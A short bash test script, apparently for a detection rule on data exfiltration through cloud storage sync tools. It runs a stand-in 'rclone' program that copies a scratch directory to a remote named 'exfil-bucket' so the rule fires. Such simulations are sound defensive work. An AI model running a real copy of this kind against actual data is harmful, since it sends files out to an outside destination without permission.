#!/usr/bin/env bash
# rule: exfiltration-cloud-storage-sync-tool
# Runs a do-nothing program named rclone copying the scratch directory.
set -euo pipefail
source "$(dirname "$0")/../lib/sim.sh"
"$(fake_tool rclone)" copy "$SIM_DIR" remote:exfil-bucket
